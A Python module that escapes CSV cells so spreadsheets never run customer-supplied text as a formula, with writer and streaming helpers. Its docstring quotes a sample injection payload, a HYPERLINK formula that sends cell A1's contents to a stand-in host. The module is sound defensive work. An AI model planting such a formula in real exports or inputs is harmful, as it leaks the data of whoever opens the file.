"""CSV that a spreadsheet opens as data: no cell is ever read as a formula.

Excel, LibreOffice and Google Sheets run a cell that starts with `=`, `+`, `-` or `@` (and some
strip a leading tab or carriage return first), so a customer-chosen name such as
`=HYPERLINK("http://x/?"&A1,"Pay")` would run in whoever opens the export. Every CSV the portal
writes goes through `writer()` or `stream()`: a text cell with such a start gets a leading `'`,
which spreadsheets show as text. Numbers (int, Decimal, float, and text that is only a number like
"-4.25") are written as they are, so amounts stay amounts.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Iterator
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def safe_cell(value: Any) -> Any:
    """The value as a spreadsheet should read it: text that would be a formula gets a `'`."""
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
        return value
    if _NUMBER.fullmatch(value):
        return value
    return "'" + value


class SafeWriter:
    """`csv.writer` with every cell passed through `safe_cell`."""

    def __init__(self, file: Any, **options: Any):
        self._writer = csv.writer(file, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(file: Any, **options: Any) -> SafeWriter:
    return SafeWriter(file, **options)


class _Echo:
    """A file-like object whose write returns the line, for StreamingHttpResponse."""

    def write(self, value: str) -> str:
        return value


def stream(rows: Iterable[Iterable[Any]]) -> Iterator[str]:
    """One formula-safe CSV line per row, for a StreamingHttpResponse."""
    out = SafeWriter(_Echo())
    for row in rows:
        yield out.writerow(row)
